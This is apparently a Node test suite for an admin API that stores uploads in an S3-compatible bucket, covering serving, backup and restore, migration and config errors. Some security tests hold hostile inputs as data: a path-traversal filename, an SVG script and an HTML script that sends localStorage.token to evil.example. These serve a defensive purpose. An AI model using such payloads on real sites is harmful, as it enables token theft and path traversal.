// Uploads in an S3-compatible bucket: a real S3 server on loopback (s3rver, infra/test/support/s3.mjs)
// reached through the real AWS SDK, and the real API over HTTP on SQLite and on MySQL.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';

import { DeleteObjectCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { uploadVariantSet } from '@portfolio/contract/image-variants';
import sharp from 'sharp';

import { runBackup } from '../src/backup/backup.js';
import { runRestore } from '../src/backup/restore.js';
import { loadConfig } from '../src/config/config.js';
import { ADMIN, type Api, startApi, startApiProcess } from './support/harness.js';
import { eventually } from './support/newsletter.js';
import { readZip } from './support/zip.js';

type S3Support = typeof import('../../infra/test/support/s3.mjs');
type S3TestServer = Awaited<ReturnType<S3Support['startS3Server']>>;

/** admin-api/ (this file runs from admin-api/dist/test/). */
const API_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const REPO_ROOT = path.dirname(API_ROOT);
const startS3Server: S3Support['startS3Server'] = async (options) =>
  ((await import(path.join(REPO_ROOT, 'infra/test/support/s3.mjs'))) as S3Support).startS3Server(options);

const BUCKET = 'portfolio-uploads';

function storageEnv(s3: S3TestServer, prefix = 'site/uploads'): Record<string, string> {
  return {
    STORAGE_URL: `s3://${BUCKET}/${prefix}?region=${s3.region}&endpoint=${encodeURIComponent(s3.endpoint)}`,
    S3_ACCESS_KEY_ID: s3.accessKeyId,
    S3_SECRET_ACCESS_KEY: s3.secretAccessKey,
  };
}

function client(s3: S3TestServer) {
  return new S3Client({
    endpoint: s3.endpoint,
    region: s3.region,
    forcePathStyle: true,
    credentials: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey },
  });
}

async function keys(s3: S3TestServer): Promise<string[]> {
  const page = await client(s3).send(new ListObjectsV2Command({ Bucket: BUCKET }));
  return (page.Contents ?? []).map((o) => o.Key ?? '').sort();
}

async function objectBytes(s3: S3TestServer, key: string) {
  const answer = await client(s3).send(new GetObjectCommand({ Bucket: BUCKET, Key: key }));
  return { bytes: Buffer.from(await answer.Body!.transformToByteArray()), type: answer.ContentType };
}

function form(file: Buffer, filename: string, contentType: string, mime = 'application/octet-stream') {
  const data = new FormData();
  data.append('file', new Blob([new Uint8Array(file)], { type: mime }), filename);
  data.append('contentType', contentType);
  return data;
}

/** Runs a compiled command of the API (a boot, the copy command) to its end. */
async function runNode(script: string, args: string[], env: Record<string, string>) {
  const child = spawn(process.execPath, [path.join(API_ROOT, script), ...args], {
    cwd: API_ROOT,
    env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '', ...env },
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c) => (stdout += c));
  child.stderr.on('data', (c) => (stderr += c));
  const [code] = await once(child, 'exit');
  return { code: code as number, stdout, stderr };
}

const PNG_RED = () =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } })
    .png()
    .toBuffer();

describe('POST /api/upload with STORAGE_URL=s3://…', () => {
  let s3: S3TestServer;
  let api: Api;
  let token: string;
  let png: Buffer;
  before(async () => {
    s3 = await startS3Server({ buckets: [BUCKET] });
    api = await startApi({ ...storageEnv(s3), UPLOAD_MAX_MB: '1' });
    token = await api.login();
    png = await PNG_RED();
  });
  after(async () => {
    await api?.close();
    await s3?.stop();
  });
  const upload = (data: FormData) => api.request('POST', '/api/upload', { token, rawBody: data });

  it('stores the upload in the bucket under the prefix, not on the local disk, with its type', async () => {
    const res = await upload(form(png, '../../evil name.png', 'books', 'image/png'));
    assert.equal(res.status, 201, res.text);
    assert.equal(res.body.folder, 'books');
    assert.match(res.body.url, /^\/uploads\/books\/[a-z0-9]+-[0-9a-f]{16}-40x30\.png$/);
    const key = `site${res.body.url}`;
    assert.ok((await keys(s3)).includes(key), `${key} is in the bucket`);
    const stored = await objectBytes(s3, key);
    assert.deepEqual(stored.bytes, png);
    assert.equal(stored.type, 'image/png');
    assert.equal(existsSync(path.join(api.config.varDir, 'uploads')), false, 'nothing written to $VAR_DIR/uploads');
  });

  it("makes an uploaded image's variants from the bucket into the bucket, and serves them", async () => {
    const res = await upload(form(png, 'cover.png', 'books', 'image/png'));
    assert.equal(res.status, 201, res.text);
    const state = await eventually(
      () => api.request('GET', `/api/image-variants?path=${encodeURIComponent(res.body.url)}`),
      (r) => r.body?.state !== 'pending',
      'the variants',
    );
    assert.equal(state.body.state, 'done');
    const stored = await keys(s3);
    for (const v of uploadVariantSet(res.body.url, { width: 40, height: 30 })) {
      assert.ok(stored.includes(`site${v.stored}`), `${v.stored} is in the bucket`);
      const served = await fetch(api.url + v.stored);
      assert.equal(served.status, 200);
      assert.equal((await sharp(Buffer.from(await served.arrayBuffer())).metadata()).width, v.width);
    }
  });

  it('serves the upload back at its /uploads/ address with the headers of the local folder', async () => {
    const res = await upload(form(png, 'cover.png', 'artworks', 'image/png'));
    const served = await fetch(api.url + res.body.url);
    assert.equal(served.status, 200);
    assert.equal(served.headers.get('content-type'), 'image/png');
    assert.equal(served.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(served.headers.get('cache-control'), 'public, max-age=31536000, immutable');
    assert.equal(served.headers.get('content-length'), String(png.length));
    assert.deepEqual(Buffer.from(await served.arrayBuffer()), png);

    const etag = served.headers.get('etag');
    assert.ok(etag, 'an ETag');
    const again = await fetch(api.url + res.body.url, { headers: { 'if-none-match': etag } });
    assert.equal(again.status, 304);

    const part = await fetch(api.url + res.body.url, { headers: { range: 'bytes=1-3' } });
    assert.equal(part.status, 206);
    assert.equal(part.headers.get('content-range'), `bytes 1-3/${png.length}`);
    assert.deepEqual(Buffer.from(await part.arrayBuffer()), png.subarray(1, 4));

    const past = await fetch(api.url + res.body.url, { headers: { range: `bytes=${png.length + 10}-` } });
    assert.equal(past.status, 416);
    assert.equal(past.headers.get('content-range'), `bytes */${png.length}`);

    const head = await fetch(api.url + res.body.url, { method: 'HEAD' });
    assert.equal(head.status, 200);
    assert.equal(head.headers.get('content-length'), String(png.length));
  });

  it('answers 404 for an address the bucket does not hold, and never serves dot-files or other keys', async () => {
    assert.equal((await fetch(`${api.url}/uploads/books/none-40x30.png`)).status, 404);
    await client(s3).send(new PutObjectCommand({ Bucket: BUCKET, Key: 'site/uploads/books/.secret.png', Body: 'x' }));
    await client(s3).send(new PutObjectCommand({ Bucket: BUCKET, Key: 'outside.png', Body: 'x' }));
    assert.equal((await fetch(`${api.url}/uploads/books/.secret.png`)).status, 404);
    assert.equal((await fetch(`${api.url}/uploads/..%2F..%2Foutside.png`)).status, 404);
  });

  it('serves only the types an upload can have, sandboxed, whatever is in the bucket', async () => {
    const page = '<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>';
    for (const [name, type] of [
      ['evil.html', 'text/html'],
      ['evil.svg', 'image/svg+xml'],
      ['page.jpg', 'text/html'],
    ]) {
      await client(s3).send(new PutObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}`, Body: page, ContentType: type }));
    }
    for (const name of ['evil.html', 'evil.svg']) {
      const res = await fetch(`${api.url}/uploads/general/${name}`);
      assert.equal(res.status, 404, name);
      assert.doesNotMatch(await res.text(), /localStorage/, name);
    }
    const disguised = await fetch(`${api.url}/uploads/general/page.jpg`);
    assert.equal(disguised.status, 200);
    assert.equal(disguised.headers.get('content-type'), 'image/jpeg');
    assert.equal(disguised.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(disguised.headers.get('content-security-policy'), "default-src 'none'; sandbox");
    for (const name of ['evil.html', 'evil.svg', 'page.jpg'])
      await client(s3).send(new DeleteObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}` }));
  });

  it('leaves nothing in the bucket when an upload is refused', async () => {
    // (The variants of the images uploaded before may still be arriving.)
    const uploads = async () => (await keys(s3)).filter((k) => !k.includes('/_variants/'));
    const before = await uploads();
    const svg = await upload(
      form(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'a.png', 'books', 'image/png'),
    );
    assert.equal(svg.status, 415);
    assert.equal(svg.body.message, 'Only images (JPEG, PNG, GIF, WebP, AVIF) and PDF files can be uploaded');
    const big = await upload(form(Buffer.alloc(2 * 1024 * 1024, 0xff), 'big.jpg', 'books', 'image/jpeg'));
    assert.equal(big.status, 413);
    const folder = await upload(form(png, 'a.png', 'secrets', 'image/png'));
    assert.equal(folder.status, 400);
    assert.deepEqual(await uploads(), before);
  });

  it('a second API process on the same bucket serves an upload made through the first', async () => {
    const res = await upload(form(png, 'shared.png', 'news', 'image/png'));
    assert.equal(res.status, 201);
    // Another replica, a process of its own: its own VAR_DIR (its own disk), the same bucket and, on MySQL, the same database.
    // Its secret key from a file, as Docker and Kubernetes secrets give it (S3_SECRET_ACCESS_KEY_FILE).
    const secretFile = path.join(api.config.varDir, 's3-secret');
    await writeFile(secretFile, `${s3.secretAccessKey}\n`);
    const { S3_SECRET_ACCESS_KEY: _secret, ...withoutSecret } = storageEnv(s3);
    const second = await startApiProcess({ ...withoutSecret, S3_SECRET_ACCESS_KEY_FILE: secretFile });
    try {
      const served = await fetch(second.url + res.body.url);
      assert.equal(served.status, 200);
      assert.equal(served.headers.get('content-type'), 'image/png');
      assert.deepEqual(Buffer.from(await served.arrayBuffer()), png);
      const sessionId = await second.login();
      const made = await fetch(`${second.url}/api/upload`, {
        method: 'POST',
        headers: { authorization: `Bearer ${sessionId}` },
        body: form(png, 'b.png', 'news', 'image/png'),
      });
      assert.equal(made.status, 201);
      const { url } = (await made.json()) as { url: string };
      assert.equal((await fetch(api.url + url)).status, 200, 'the first serves what the second stored');
      assert.equal(existsSync(path.join(second.varDir, 'uploads')), false);
    } finally {
      await second.stop();
    }
  });

  let archive: string;
  let kept: string;
  it('npm run backup takes the uploads from the bucket', async () => {
    const res = await upload(form(png, 'kept.png', 'general', 'image/png'));
    assert.equal(res.status, 201, res.text);
    kept = res.body.url.slice('/uploads/'.length);
    archive = path.join(api.config.varDir, 'backup.tar.gz');
    await runBackup(api.config, { out: archive });
    const names = tarNames(gunzipSync(await readFile(archive)));
    assert.ok(names.includes(`uploads/${kept}`), `the archive holds uploads/${kept}: ${names.join(', ')}`);
  });

  it('npm run restore puts the uploads of an archive into the bucket of a new instance', async () => {
    // A new instance (a new SQLite database) whose uploads live under another prefix of the bucket.
    const varDir = await mkdtemp(path.join(os.tmpdir(), 'restore-s3-'));
    try {
      const config = loadConfig({
        VAR_DIR: varDir,
        ADMIN_USERNAME: ADMIN.username,
        ADMIN_PASSWORD: 'restored-password-1',
        ...storageEnv(s3, 'restored'),
      });
      const progress: string[] = [];
      const result = await runRestore(config, archive, { onProgress: (p) => progress.push(JSON.stringify(p)) });
      assert.ok(result.files >= 1, progress.join(' '));
      assert.ok((await keys(s3)).includes(`restored/${kept}`));
      assert.deepEqual((await objectBytes(s3, `restored/${kept}`)).bytes, png);
      assert.equal(existsSync(path.join(varDir, 'uploads')), false, 'nothing written to $VAR_DIR/uploads');
    } finally {
      await rm(varDir, { recursive: true, force: true });
    }
  });

  it('the site export copies uploads from the bucket', async () => {
    const res = await upload(form(png, 'page.png', 'books', 'image/png'));
    assert.equal(res.status, 201, res.text);
    const live = api.config.siteDir;
    await mkdir(live, { recursive: true });
    await writeFile(
      path.join(live, 'index.html'),
      `<!DOCTYPE html><html lang="en"><head></head><body><img src="${res.body.url}" alt=""></body></html>`,
    );
    const zip = await fetch(`${api.url}/api/admin/site-export`, { headers: { authorization: `Bearer ${token}` } });
    assert.equal(zip.status, 200, await zip.clone().text());
    const files = readZip(Buffer.from(await zip.arrayBuffer()));
    assert.deepEqual(files.get(res.body.url.slice(1)), png);
  });
});

describe('GET /uploads/… with UPLOADS_PUBLIC_URL', () => {
  let s3: S3TestServer;
  let api: Api;
  before(async () => {
    s3 = await startS3Server({ buckets: [BUCKET] });
    api = await startApi({ ...storageEnv(s3), UPLOADS_PUBLIC_URL: 'https://cdn.example.test/media/' });
  });
  after(async () => {
    await api?.close();
    await s3?.stop();
  });

  it('redirects to the public base while the stored address stays /uploads/…', async () => {
    const res = await api.request('POST', '/api/upload', {
      token: await api.login(),
      rawBody: form(await PNG_RED(), 'a.png', 'books', 'image/png'),
    });
    assert.equal(res.status, 201);
    assert.match(res.body.url, /^\/uploads\/books\//);
    const served = await fetch(api.url + res.body.url, { redirect: 'manual' });
    assert.equal(served.status, 302);
    assert.equal(served.headers.get('location'), `https://cdn.example.test/media/${res.body.url.slice('/uploads/'.length)}`);
  });
});

describe('start with STORAGE_URL naming a bucket that does not exist', () => {
  let s3: S3TestServer;
  before(async () => {
    s3 = await startS3Server({ buckets: [BUCKET] });
  });
  after(() => s3?.stop());

  it('starts, says in the log which bucket is missing, and answers uploads with 503 and a clear message', async () => {
    const warnings: string[] = [];
    let heard: () => void = () => {};
    const warned = new Promise<void>((resolve) => (heard = resolve));
    const logger = {
      log() {},
      error() {},
      warn(message: unknown) {
        warnings.push(String(message));
        if (String(message).startsWith('Uploads cannot reach')) heard();
      },
    };
    const env = { ...storageEnv(s3), STORAGE_URL: `s3://no-such-bucket?region=${s3.region}&endpoint=${encodeURIComponent(s3.endpoint)}` };
    const api = await startApi(env, { logger });
    try {
      await warned;
      assert.ok(
        warnings.includes(`Uploads cannot reach s3://no-such-bucket/ at ${s3.endpoint}: the bucket no-such-bucket does not exist`),
        warnings.join('\n'),
      );
      const res = await api.request('POST', '/api/upload', {
        token: await api.login(),
        rawBody: form(await PNG_RED(), 'a.png', 'books', 'image/png'),
      });
      assert.equal(res.status, 503);
      assert.equal(res.body.message, 'The file could not be stored right now. Please try again in a moment.');
      assert.equal(res.body.messageKey, 'error.storageUnavailable');
      const docs = await api.request('GET', '/api/docs-json');
      assert.match(docs.body.paths['/api/upload'].post.responses['503'].description, /^error\.storageUnavailable: /);
      assert.ok(docs.body.components.schemas.MessageKey.enum.includes('error.storageUnavailable'));
    } finally {
      await api.close();
    }
  });
});

describe('npm run uploads:to-s3', () => {
  let s3: S3TestServer;
  let from: string;
  before(async () => {
    s3 = await startS3Server({ buckets: [BUCKET] });
    from = await mkdtemp(path.join(os.tmpdir(), 'uploads-to-s3-'));
    await mkdir(path.join(from, 'books'), { recursive: true });
    await mkdir(path.join(from, 'artworks'), { recursive: true });
    await writeFile(path.join(from, 'books', 'a-10x10.png'), await PNG_RED());
    await writeFile(path.join(from, 'artworks', 'b.pdf'), '%PDF-1.4\n%%EOF\n');
    await writeFile(path.join(from, 'books', '.c.png.partial'), 'half');
  });
  after(async () => {
    await s3?.stop();
    if (from) await rm(from, { recursive: true, force: true });
  });
  const env = () => ({ ...storageEnv(s3, 'up'), VAR_DIR: from });
  const run = () => runNode('dist/src/uploads/to-s3.js', ['--from', from], env());

  it('copies every finished upload under the same path, with its type, and says so', async () => {
    const first = await run();
    assert.equal(first.code, 0, first.stderr);
    assert.match(first.stdout, /^\[[12]\/2\] artworks\/b\.pdf: copied \(15 bytes\)$/m);
    assert.match(first.stdout, /^\[[12]\/2\] books\/a-10x10\.png: copied \(\d+ bytes\)$/m);
    assert.match(first.stdout, /Done in [\d.]+ s: 2 copied \(\d+ bytes\), 0 already there, 0 failed\./);
    assert.deepEqual(await keys(s3), ['up/artworks/b.pdf', 'up/books/a-10x10.png']);
    assert.equal((await objectBytes(s3, 'up/artworks/b.pdf')).type, 'application/pdf');
  });

  it('skips what the bucket already holds and copies only changed bytes on a second run', async () => {
    await writeFile(path.join(from, 'artworks', 'b.pdf'), '%PDF-1.4\n% changed\n%%EOF\n');
    const second = await run();
    assert.equal(second.code, 0, second.stderr);
    assert.match(second.stdout, /books\/a-10x10\.png: already in the bucket/);
    assert.match(second.stdout, /1 copied \(\d+ bytes\), 1 already there, 0 failed\./);
    assert.equal((await objectBytes(s3, 'up/artworks/b.pdf')).bytes.toString(), '%PDF-1.4\n% changed\n%%EOF\n');
  });

  it('names each file it could not copy, and ends with exit code 1 so a script notices', async () => {
    const res = await runNode('dist/src/uploads/to-s3.js', ['--from', from], {
      ...env(),
      STORAGE_URL: `s3://no-such-bucket?region=${s3.region}&endpoint=${encodeURIComponent(s3.endpoint)}`,
    });
    assert.equal(res.code, 1);
    assert.match(res.stdout, /^\[[12]\/2\] books\/a-10x10\.png: FAILED: /m);
    assert.match(res.stdout, /0 copied \(0 bytes\), 0 already there, 2 failed\. Run the command again to retry the failed ones\.$/m);
  });

  it('refuses to run without STORAGE_URL', async () => {
    const res = await runNode('dist/src/uploads/to-s3.js', [], { VAR_DIR: from });
    assert.equal(res.code, 2);
    assert.match(res.stderr, /^STORAGE_URL is not set to a bucket: set STORAGE_URL=s3:\/\/bucket\/prefix\?region=… /);
  });
});

describe('start with a bad STORAGE_URL', () => {
  let varDir: string;
  before(async () => {
    varDir = await mkdtemp(path.join(os.tmpdir(), 'storage-url-'));
  });
  after(() => rm(varDir, { recursive: true, force: true }));
  const boot = (env: Record<string, string>) =>
    runNode('dist/src/main.js', [], { VAR_DIR: varDir, PORT: '0', ADMIN_PASSWORD: ADMIN.password, SEED_DEMO: 'false', ...env });

  const cases: [string, Record<string, string>, string][] = [
    [
      'another scheme',
      { STORAGE_URL: 'ftp://bucket/x' },
      'STORAGE_URL must start with s3:// (got "ftp://"), e.g. s3://my-bucket/uploads?region=eu-central-1 (add &endpoint=https://… for R2, MinIO or B2)',
    ],
    [
      'a bad bucket name',
      { STORAGE_URL: 's3://My_Bucket/x?region=eu-central-1' },
      'STORAGE_URL must name a bucket of 3 to 63 lowercase letters, digits, dots or dashes (got "My_Bucket")',
    ],
    ['no region', { STORAGE_URL: 's3://bucket/x' }, 'STORAGE_URL needs a region (?region=…, or AWS_REGION); R2 uses region=auto'],
    [
      'an unknown parameter',
      { STORAGE_URL: 's3://bucket/x?region=a&endpint=http://x' },
      'STORAGE_URL has unknown parameters (endpint); known: region, endpoint, path_style',
    ],
    [
      'one key without the other',
      { STORAGE_URL: 's3://bucket?region=a', S3_ACCESS_KEY_ID: 'id' },
      'S3_ACCESS_KEY_ID and S3_SECRET_ACCESS_KEY must be set together',
    ],
    [
      'a public URL without a bucket',
      { UPLOADS_PUBLIC_URL: 'https://cdn.example.test' },
      'UPLOADS_PUBLIC_URL needs STORAGE_URL=s3://… as well',
    ],
  ];
  for (const [name, env, message] of cases) {
    it(`stops at once with a clear message for ${name}`, async () => {
      const res = await boot(env);
      assert.equal(res.code, 1);
      assert.ok(res.stderr.startsWith('Invalid configuration:\n'), res.stderr);
      assert.ok(res.stderr.includes(`  - ${message}`), res.stderr);
      assert.ok(res.stderr.includes('Fix these environment variables and start again.'), res.stderr);
      assert.deepEqual(await readdir(varDir), [], 'nothing was started or written');
    });
  }
});

/** Names of the entries of a tar archive. */
function tarNames(tar: Buffer): string[] {
  const names: string[] = [];
  for (let at = 0; at + 512 <= tar.length;) {
    const header = tar.subarray(at, at + 512);
    if (header.every((b) => b === 0)) break;
    const name = header.subarray(0, 100).toString('utf8').replace(/\0.*$/s, '');
    const prefix = header.subarray(345, 500).toString('utf8').replace(/\0.*$/s, '');
    const size = parseInt(header.subarray(124, 136).toString('utf8').replace(/\0.*$/s, '').trim() || '0', 8);
    names.push(prefix ? `${prefix}/${name}` : name);
    at += 512 + Math.ceil(size / 512) * 512;
  }
  return names;
}
